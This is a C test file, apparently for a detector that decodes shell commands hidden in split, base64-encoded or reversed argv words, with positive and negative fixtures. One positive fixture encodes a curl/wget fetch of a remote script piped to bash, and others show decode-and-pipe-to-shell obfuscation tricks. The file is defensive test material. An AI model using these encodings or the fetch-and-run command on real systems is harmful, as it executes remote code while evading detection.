// SPDX-License-Identifier: GPL-3.0-or-later
/* What hides in an argv of some words, or only looks it. */
#include "hidden.h"

static const struct row {
	const char *chain, *want;
	const char *argv[PAYLOAD_ARGS_MAX];
} good[] = {
	/* The words behind a shell's text. */
	{ "base64",
		"(curl -s http://192.0.2.31/unk.sh||wget -q -O- "
		"http://192.0.2.31/unk.sh)|bash",
		{ "bash", "-c", "eval \"$(printf %s \"$@@\" | base64 -d)\"",
			"x", "KGN1cmwgLXMgaHR0cDov",
			"LzE5Mi4wLjIuMzEvdW5rLnNofHx3Z2V0IC1xIC1P",
			"LSBodHRwOi8vMTkyLjAuMi4zMS91bmsuc2gpfGJhc2g=" } },
	{ "base64", "id -un",
		{ "bash", "-c", "$0 $1 | $2 -d | $3 ; true", "echo", "aWQgLXVu",
			"base64", "sh" } },
	{ "base64", "id -un",
		{ "sudo", "bash", "-c", "for i;do echo $i;done|base64 -d|sh",
			"x", "aWQgL", "XVu" } },
	{ "tr+base64", "id -un",
		{ "sh", "-c", "echo \"$*\"|tr -d ' '|base64 -d|sh", "x", "aWQ",
			"gL", "XVu" } },
	{ "base64", "id -un",
		{ "bash", "-c", "IFS=;echo \"$*\"|base64 -d|sh", "x", "aWQ",
			"gL", "XVu" } },
	{ "base64", "id -un",
		{ "bash", "-c", "echo ${*//./}|base64 -d|sh", "x",
			"aWQ.gL.XVu" } },
	{ "reverse", "id;ls",
		{ "sh", "-c", "echo $1$2|rev|sh", "x", "sl", ";di" } },
};

static const char *const not [][PAYLOAD_ARGS_MAX] = {
	{ "bash", "-c", "exec \"$@@\"", "x", "ls", "-la" },
	{ "bash", "-c", "eval \"$*\"", "x", "ls", "-la | grep x" },
	{ "sh", "-c", "\"$@@\" 2>&1 | tee /tmp/log", "sh", "curl", "-s",
		"http://192.0.2.1/x" },
	{ "sh", "-c", "$0 -c \"$1\"", "bash", "make -j2 all" },
	{ "sh", "-c", "sh -c \"$1 $2\"", "x", "make -C", "/src all" },
	{ "find", "/srv", "-exec", "sh", "-c", "mv \"$1\" \"${1%.txt}.md\"",
		"_", "{}" },
	/* These words go to su, not to the text. */
	{ "su", "-c", "echo $1$2 | rev | sh", "sl", ";di" },
};

int main(void)
{
	check.module = "decode argv";
	for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++) {
		struct event *ev = payload_run_rows(good[i].argv, BYTES(""));

		check_start("%zu: %s", i, good[i].want);
		hidden_check(ev, good[i].chain, good[i].want);
		event_destroy(ev);
	}
	for (size_t i = 0; i < sizeof(not ) / sizeof(not [0]); i++) {
		struct event *ev = payload_run_rows(not [i], BYTES(""));

		check_start("not %zu: %s", i, not [i][2]);
		hidden_none(ev);
		event_destroy(ev);
	}
	return check_end();
}
